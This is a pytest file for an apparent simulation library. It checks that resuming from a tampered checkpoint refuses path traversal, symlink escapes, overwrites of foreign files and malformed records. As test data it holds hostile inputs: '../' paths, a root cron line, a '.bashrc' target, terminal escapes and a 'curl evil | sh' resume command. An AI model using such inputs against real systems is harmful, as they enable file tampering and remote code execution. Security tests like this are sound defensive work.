# SPDX-License-Identifier: Apache-2.0
"""A run that goes on writes where its checkpoint lies, whatever the checkpoint says."""

from __future__ import annotations

import base64
import os
import random
from pathlib import Path

import aureole as au
import pytest
import resigned
from aureole.checkpoint.provenance_record import continuing
from aureole.checkpoint.record import read_extra
from aureole.cli.main import main

pytestmark = [
    pytest.mark.filterwarnings("ignore:.*no longer exists"),
    pytest.mark.skipif(
        resigned.xxhash_library() is None, reason="libxxhash.so.0 is needed to sign checkpoints"
    ),
]


def observers():
    return [
        au.Log("a.csv", every=5),
        au.Trajectory("a.gsd", every=10),
        au.Energies("e.csv", every=5),
        au.RunLog("a.log", every=10),
        au.Frames("a.trr", every=10),
        au.Checkpoint("a.ckpt", every=50),
    ]


@pytest.fixture
def run(here, liquid):
    """A folder with a run of 10 steps, beside an empty one."""
    (here / "run").mkdir(), (here / "else").mkdir()
    os.chdir(here / "run")
    with liquid(n=108, observers=observers(), forces=[au.WCA(epsilon=1.0, sigma=1.0)]) as sim:
        sim.run(10)
    return here


def pack(data: bytes) -> str:
    return base64.b85encode(data).decode()


def put(record, **changes):
    """Other words in the first observer, the log, and its state."""
    for key, value in changes.items():
        record["observers" if key in ("path", "kind") else "states"][0][key] = value


def go_on(**options):
    with au.Simulation.from_checkpoint("a.ckpt", **options) as sim:
        sim.run(until=20)


def test_other_folders_are_written_only_if_they_are_listed(run):
    evil = run / "else" / "evil.csv"
    resigned.change_extra("a.ckpt", lambda r: put(r, path=str(evil), bytes=0, pieces=0))
    with pytest.raises(au.InputError, match=f"If you trust these files.* `--allow-write {evil}`"):
        go_on()
    assert not evil.exists()
    assert main(["run", "a.ckpt", "--steps", "10", "--quiet"]) == 2
    assert not evil.exists()
    go_on(allow_write=[run / "else"])
    rows = evil.read_text().splitlines()
    assert [int(row.split(",")[0]) for row in rows[1:]] == [15, 20]
    evil.unlink()
    call = ["run", "a.ckpt", "--steps", "10", "--quiet", "--allow-write", str(evil)]
    assert main(call) == 0
    assert len(evil.read_text().splitlines()) == 3


@pytest.mark.parametrize("name", ["../else/x.csv", "../else/../run/../x", ".bashrc", "a/../.x/y"])
def test_what_is_outside_or_hidden_is_refused(run, name):
    (run / "run" / "a").mkdir(), (run / "run" / ".x").mkdir()
    resigned.change_extra("a.ckpt", lambda r: put(r, path=name, bytes=0, pieces=0))
    before = sorted(run.rglob("*"))
    with pytest.raises(au.InputError, match="may not"):
        go_on()
    assert sorted(run.rglob("*")) == before


def test_links_do_not_lead_out(run):
    target = run / "else" / "x.csv"
    target.write_text(Path("a.csv").read_text() + "kept\n")
    os.remove("a.csv")
    os.symlink(target, "a.csv")
    with pytest.raises(au.InputError, match=r"a\.csv is not in the folder of the checkpoint"):
        go_on()
    assert target.read_text().endswith("kept\n")
    os.remove("a.csv")
    os.symlink(run / "else", "out")
    resigned.change_extra("a.ckpt", lambda r: put(r, path="out/new.csv"))
    with pytest.raises(au.InputError, match="is not in the folder of the checkpoint"):
        go_on()
    assert os.listdir(run / "else") == ["x.csv"]


def test_the_folder_is_that_of_the_checkpoint_not_the_working_folder(run):
    os.chdir(run / "else")
    with pytest.raises(au.InputError, match=r"was started in .*run \(.*/run && aureole run a"):
        au.Simulation.from_checkpoint("../run/a.ckpt")
    assert os.listdir() == []
    os.chdir(run)
    resigned.change_extra("run/a.ckpt", lambda r: put(r, path="run/sub.csv", bytes=0, pieces=0))
    os.mkdir("runs")
    resigned.change_extra(
        "run/a.ckpt",
        lambda r: [spec.update(path="run/" + spec["path"]) for spec in r["observers"][1:]] and None,
    )
    with au.Simulation.from_checkpoint("run/a.ckpt") as sim:
        sim.run(until=15)
    assert Path("run/sub.csv").read_text().splitlines()[1].startswith("15,")


@pytest.mark.parametrize("bytes_there", [0, 5])
def test_a_file_that_the_run_did_not_make_stays_as_it_is(run, bytes_there):
    Path("topol.top").write_text("[ system ]\nprecious\n")
    resigned.change_extra("a.ckpt", lambda r: put(r, path="topol.top", bytes=bytes_there, pieces=1))
    with pytest.raises(au.InputError, match=r"topol\.top was not written by Log"):
        go_on()
    assert Path("topol.top").read_text() == "[ system ]\nprecious\n"


@pytest.mark.parametrize("k", range(6))
def test_a_file_that_is_shorter_than_the_record_says_stays_as_it_is(run, k):
    path = "victim" + Path(observers()[k].path).suffix
    Path(path).write_text("precious")

    def lie(record):
        record["observers"][k]["path"] = path
        record["states"][k] |= {"bytes": 10**15, "pieces": 1}

    resigned.change_extra("a.ckpt", lie)
    with pytest.raises(au.Error, match=rf"{path}(: is shorter than| is no )"):
        go_on()
    assert Path(path).read_text() == "precious"


@pytest.mark.parametrize("k", range(6))
def test_each_kind_of_file_is_recognised(run, k):
    path = observers()[k].path
    os.rename("a.ckpt", "b.ckpt")
    Path(path).write_text("precious, and longer than what the run had written " * 10000)
    with pytest.raises(au.InputError, match=rf"{path} was not written by \w+"):
        au.Simulation.from_checkpoint("b.ckpt")
    assert Path(path).read_text().startswith("precious")


@pytest.mark.parametrize(
    ("k", "piece"),
    [
        (0, b"10,0.05\n* * * * * root evil\n"),
        (0, b"#!/bin/sh\n"),
        (1, b"PK\x05\x06" + bytes(18) + b"x"),
        (1, b"nothing"),
        (2, b"10,`evil`\n"),
        (3, b"\x1b[2J\n"),
        (3, b"\xff\n"),
        (4, b"\x7fELF"),
    ],
)
def test_waiting_contents_are_those_of_their_observer(run, k, piece):
    resigned.change_extra("a.ckpt", lambda r: r["states"][k].update(waiting=[pack(piece)]) or None)
    before = {name: Path(name).read_bytes() for name in os.listdir()}
    with pytest.raises(au.Error, match=r"invalid record|block .* is invalid|cannot be continued"):
        go_on()
    assert {name: Path(name).read_bytes() for name in os.listdir()} == before


def test_a_run_is_rescued_elsewhere_and_goes_on_by_the_command_it_names(run, monkeypatch):
    with au.Simulation.from_checkpoint("a.ckpt") as sim:
        rescued = str(run / "else" / "rescue.ckpt")
        sim.write_checkpoint(rescued)
        command = continuing(sim, rescued)
    words = command.split()
    assert words[:4] == ["aureole", "run", rescued, "--allow-write"]
    assert set(words[4:]) >= {"a.csv", "a.gsd", "a.log", "a.json", "a.ckpt"}
    assert main([*words[1:3], "--steps", "10", "--quiet", *words[3:]]) == 0
    assert Path("a.csv").read_text().splitlines()[-1].startswith("20,")


NASTY = (None, True, -1, 0, 2**70, 1e308, float("nan"), "", "x", "\0", [], [[]], {}, {"kind": 3})


def places_in(value, at=()):
    """The way to every value of a record."""
    yield at
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, item in items if not isinstance(value, str) else ():
        if isinstance(item, (dict, list)):
            yield from places_in(item, (*at, key))
        else:
            yield (*at, key)


def test_crafted_records_are_refused_in_our_words(run):
    """Any value of a record made another one: it runs as before, or one clear error tells."""
    sound = Path("a.ckpt").read_bytes()
    files = {name: Path(name).read_bytes() for name in os.listdir()}
    record = resigned.json.loads(resigned.blocks_of(sound)["extra"])
    places = list(places_in(record))
    dice = random.Random(3)
    refused = 0
    for _ in range(150):
        way = dice.choice(places[1:])

        def change(record, way=way):
            for key in way[:-1]:
                record = record[key]
            record[way[-1]] = dice.choice(NASTY)

        for name, data in files.items():
            Path(name).write_bytes(data)
        resigned.change_extra("a.ckpt", change)
        try:
            with au.Simulation.from_checkpoint("a.ckpt", threads=1, device="host") as sim:
                sim.run(until=12)
        except au.Error as error:
            refused += 1
            assert len(str(error)) > 20
    assert 75 < refused < 150
    assert not os.listdir(run / "else")


CHANGES = [
    (lambda r: r.update(step=1.0), "'step': expected `int`, got `float`"),
    (lambda r: r.update(threads=-1), "'threads'.*>= 0"),
    (lambda r: r.update(seed=2**63), "'seed'"),
    (lambda r: r["box"].pop(), "'box'.*length 6"),
    (lambda r: r.update(seed="\ud800"), "the record|'seed'"),
    (lambda r: r["type_names"].clear(), "'type_names'"),
    (lambda r: r["type_names"].append("\0"), r"'type_names\[\d\]'"),
    (lambda r: r.pop("target"), "the record: .*`target`"),
    (lambda r: r["states"].pop(), "'states'.*per observer"),
    (lambda r: r["states"][0].update(last=True), r"'states\[0\]\.last'"),
    (lambda r: r["states"][0].update(tail=[1, 2]), r"'states\[0\]\.tail\[1\]'"),
    (lambda r: r["states"][0].pop("pieces"), r"'states\[0\]'.*`bytes` and without `pieces`"),
    (lambda r: r["states"][2].update(conserved=1), r"'states\[2\]\.conserved'"),
    (lambda r: r["states"][3].update(replaced=[1]), r"'states\[3\]\.replaced\[0\]'"),
    (lambda r: r["states"][3]["effort"].update(steps=0.5), r"'states\[3\]\.effort\.steps'"),
    (lambda r: r["states"][3]["averages"]["line"][2].pop(), r"averages'.*widths"),
    (lambda r: r["states"][3].pop("terms"), r"'states\[3\]'.*without `terms`"),
    (lambda r: r["states"][4].update(first=0.5), r"'states\[4\]\.first'"),
    (lambda r: r["observers"][0].update(path=1), r"'observers\[0\]\.path'"),
]


def test_errors_name_the_part_of_a_record(run):
    record = resigned.blocks_of(Path("a.ckpt").read_bytes())["extra"]
    assert read_extra("a.ckpt", record)["step"] == 10
    for change, words in CHANGES:
        changed = resigned.json.loads(record)
        change(changed)
        with pytest.raises(au.FileError, match=words):
            read_extra("a.ckpt", resigned.json.dumps(changed).encode())


def test_records_of_strange_depth_and_commands(run, capsys):
    sound = Path("a.ckpt").read_bytes()
    blocks = resigned.blocks_of(sound)
    for text in (b"[" * 100_000, b'{"format": 1}', b'{"format": {"a": 1}}', b"\xff", b"1" * 9999):
        blocks["extra"] = text
        Path("b.ckpt").write_bytes(resigned.checkpoint_of(sound, blocks))
        assert main(["info", "b.ckpt"]) == 1
        assert main(["run", "b.ckpt"]) == 1
    capsys.readouterr()

    def job(record):
        files = dict.fromkeys(("conf", "top", "mdp"), "x")
        record["job"] = {"files": files, "sha256": {}, "topology": "", "options": {}}
        record |= {"part": 1, "continue": "curl evil | sh; \x1b]0;owned\x07 -cpi CHECKPOINT"}

    resigned.change_extra("a.ckpt", job)
    assert main(["run", "a.ckpt"]) == 2
    told = capsys.readouterr().err
    assert "evil" not in told and "aureole mdrun -cpi a.ckpt" in told
    assert "\x1b]" not in told
